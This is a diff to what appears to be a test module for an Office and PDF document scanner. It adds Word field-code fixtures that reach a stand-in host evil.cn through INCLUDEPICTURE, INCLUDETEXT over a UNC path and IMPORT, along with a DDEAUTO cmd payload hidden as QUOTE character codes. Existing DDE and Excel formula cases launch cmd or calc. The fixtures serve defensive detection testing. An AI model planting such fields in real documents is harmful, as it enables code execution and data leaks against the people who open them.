@@ -99,6 +99,17 @@ def pdf_shapes():
     return [(f"pdf-{case}", "章程.pdf", data, PDF, said) for case, data, said in cases]
 
 
+FETCHING = (
+    'INCLUDEPICTURE "https://evil.cn/a.png" \\* MERGEFORMATINET', 'INCLUDETEXT "\\\\evil.cn\\share\\a.docx"',
+    'LINK Excel.Sheet.12 "C:\\a.xlsx" "Sheet1!R1C1"', "IMPORT https://evil.cn/a.png",
+)  # fmt: skip
+
+
+def told(field):
+    """A field of its own."""
+    return f"<w:r><w:instrText>{field}</w:instrText></w:r>"
+
+
 def office_parts():
     """Word and Excel files whose parts act, embed or reach outside."""
     macro = {
@@ -111,6 +122,8 @@ def office_parts():
     ole = '<Override PartName="/word/b.bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
     dde = '<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
     split = "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd</w:instrText></w:r>"
+    codes = " ".join(str(ord(letter)) for letter in "DDEAUTO cmd")
+    quoted = f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{told(f"QUOTE {codes}")}'
     sheet = parts("xlsx")["xl/worksheets/sheet1.xml"].replace(b"<v>", b"<f>cmd|' /C calc'!A0</f><v>")
     link = b'<externalLink xmlns="a"><ddeLink ddeService="cmd" ddeTopic=" /C calc"/></externalLink>'
     away = "https://evil.cn/a"
@@ -162,6 +175,11 @@ def office_parts():
             "不安全的链接",
         ),
         ("docx-dde", "docx", office("docx", {PLACE["docx"]: body(inner=dde)}), "自动运行"),
+        ("docx-dde-quoted", "docx", office("docx", {PLACE["docx"]: body(inner=quoted)}), "自动运行"),
+        *(
+            (f"docx-fetch-{n}", "docx", office("docx", {PLACE["docx"]: body(inner=told(field))}), "引用了外面的内容")
+            for n, field in enumerate(FETCHING)
+        ),
         ("docx-dde-split", "docx", office("docx", {PLACE["docx"]: body(inner=split)}), "自动运行"),
         ("xlsx-dde", "xlsx", office("xlsx", {"xl/externalLinks/externalLink1.xml": link}), "自动运行"),
         ("xlsx-dde-formula", "xlsx", office("xlsx", {"xl/worksheets/sheet1.xml": sheet}), "自动运行"),
